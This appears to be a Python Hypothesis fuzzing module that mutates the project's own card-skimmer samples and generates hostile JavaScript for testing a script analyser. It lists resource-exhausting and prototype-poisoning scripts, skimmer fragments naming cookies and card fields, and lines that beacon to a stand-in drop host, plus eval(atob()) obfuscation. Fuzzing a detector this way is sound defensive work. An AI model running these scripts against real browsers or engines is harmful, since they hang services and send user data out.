"""Hostile scripts: skimmers of our own cut, doubled and mixed; grammar gone wild; traps; noise."""

from __future__ import annotations

import base64
import random
from pathlib import Path

from hypothesis import strategies as st

DATA = Path(__file__).parents[1] / "data"
SCRIPTS = tuple(
    path.read_text() for folder in ("skimmers", "signs") for path in sorted((DATA / folder).glob("*.js"))
)

# What the language is made of, and what hurts readers of it.
PIECES = (
    *(
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'",
        '"',
        "`",
        "${",
        "\\",
        "/",
        "//",
        "/*",
        "*/",
        "<!--",
        "=>",
        "...",
        "?.",
        "#x",
    ),
    *(
        ";",
        ",",
        ":",
        "=",
        "+=",
        "+",
        "-",
        "*",
        "**",
        "%",
        "^",
        "|",
        "&",
        "<<",
        ">>>",
        "!",
        "~",
        "++",
        "\n",
        "\u2028",
    ),
    *(
        "var a=",
        "let b=",
        "const c=",
        "function f(a,b){",
        "return ",
        "class A extends B{",
        "async ",
        "await ",
        "yield ",
    ),
    *(
        "if(1)",
        "for(;;)",
        "while(!![])",
        "do ",
        "switch(a){",
        "try{",
        "}catch(e){",
        "throw ",
        "new ",
        "delete ",
        "void 0",
    ),
    *(
        "document.cookie",
        "location.href",
        "eval(",
        "Function(",
        "atob(",
        "unescape(",
        "String.fromCharCode(",
        ".split(",
    ),
    *(
        ".join(",
        ".reverse()",
        ".replace(",
        ".replaceAll('a','aaaa')",
        ".repeat(9)",
        ".charCodeAt(",
        ".concat(",
        ".slice(",
    ),
    *(
        "'cc_number'",
        "'checkout'",
        "'aHR0cHM6Ly9kcm9wLmV4YW1wbGU='",
        "0x1f",
        "1e999",
        "9" * 50,
        "08",
        "1n",
        ".5",
        "/[/]/g",
    ),
    *(
        "'\\x41\\u{110000}\\ud800\\777'",
        "\ufeff",
        "\x00",
        "\x1b[2J",
        "\u202e",
        "[1,2,3]",
        "['a','b','c'][1]",
        "a[0]",
        "a.b",
    ),
)
# What ends no engine by itself.
CRUEL = (
    "while(true){}",
    "for(;;){try{while(true){}}catch(e){}finally{continue}}",
    "(function f(){f()})()",
    "(function f(){try{f()}catch(e){f()}})()",
    "var a=[];for(;;)a.push(new Array(1e6).fill(1))",
    "var s='x';for(;;)s+=s",
    "new ArrayBuffer(1e9);new Uint8Array(2**31)",
    "'x'.repeat(2**29)",
    "2n**(2n**26n)",
    "/(a+)+$/.test('a'.repeat(40)+'b')",
    "Promise.resolve().then(function g(){return Promise.resolve().then(g)})",
    "setInterval(function(){},0);setTimeout(function h(){setTimeout(h)})",
    "throw {toString(){for(;;){}},get stack(){for(;;){}},get message(){for(;;){}}}",
    "Object.prototype.toJSON=Array.prototype.toJSON=function(){for(;;){}}",
    "Array.prototype.push=Array.prototype.slice=String.prototype.indexOf=function(){throw 1}",
    "JSON.stringify=JSON.parse=Object.keys=String=Array=Object=undefined",
    "Object.defineProperty(Object.prototype,'value',{get(){for(;;){}},set(){throw 1}})",
    "globalThis.__proto__=new Proxy({},{get(){throw 1},has(){return true}})",
    "document.addEventListener=Element.prototype.appendChild=function(){for(;;){}}",
    "document.write('<script>document.write(document.body.innerHTML)</'+'script>')",
    "for(;;)document.body.appendChild(document.createElement('script')).src='https://a'+Math.random()+'.example/'",
    "for(;;)new Image().src='https://drop.example/'+'x'.repeat(1e6)",
    "for(;;)localStorage.setItem(Math.random(),'x'.repeat(1e5))",
    "import('https://drop.example/a.js');require('fs');process.exit(1)",
    "debugger;(function(){}).constructor('debugger')();performance.now=Date.now=function(){return NaN}",
    "var d=document.body;for(;;){var e=document.createElement('div');d.appendChild(e);d=e}",
    "eval('('.repeat(2e5));JSON.parse('['.repeat(2e5))",
    "new Proxy(function(){},{apply(){for(;;){}}})();Symbol.prototype[Symbol.toPrimitive]=1",
)


def mutate(chance: random.Random) -> str:
    """A script: pieces of several, changed in some places."""
    text = chance.choice(SCRIPTS)
    for _ in range(chance.randint(1, 5)):
        text = _change(text, chance)
    return text


def _change(text: str, chance: random.Random) -> str:
    at, end = sorted((chance.randint(0, len(text)), chance.randint(0, len(text))))
    piece = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 6)))
    kind = chance.randint(0, 7)
    if kind == 0:
        return text[:at] + piece + text[at:]
    if kind == 1:
        return text[:at] + text[end:]
    if kind == 2:
        return text[:at] + text[at:end] * chance.randint(2, 4) + text[end:]
    if kind == 3:
        return text[:at] + chance.choice(SCRIPTS)[: chance.randint(1, 2000)] + text[at:]
    if kind == 4:
        return text[:at] + chance.choice(PIECES) * chance.randint(2, 3000) + text[at:]
    if kind == 5:
        return f"eval(atob('{base64.b64encode(text.encode(errors='replace')).decode()}'))"
    if kind == 6:
        return "eval('" + "".join(f"\\x{ord(c) & 0xFF:02x}" for c in text) + "')"
    return f"<script>{text[:at]}</script>{piece}<script>{text[at:]}"


mutants = st.integers(0, 2**40).map(lambda seed: mutate(random.Random(seed))[:60_000])
grammar = st.lists(st.sampled_from(PIECES), max_size=300).map("".join)
runs = st.tuples(st.sampled_from(PIECES), st.sampled_from(PIECES), st.integers(1, 4_000)).map(
    lambda run: (run[0] + run[1]) * run[2]
)
noise = st.binary(max_size=4_000).map(lambda data: data.decode("latin-1"))
cruel = st.tuples(st.sampled_from(CRUEL), st.sampled_from(("", *CRUEL)), st.booleans()).map(
    lambda parts: f"setTimeout(function(){{{parts[0]}}});{parts[1]}" if parts[2] else f"{parts[0]};{parts[1]}"
)
readable = mutants | grammar | runs | noise | st.text(max_size=500)
runnable = cruel | mutants | grammar
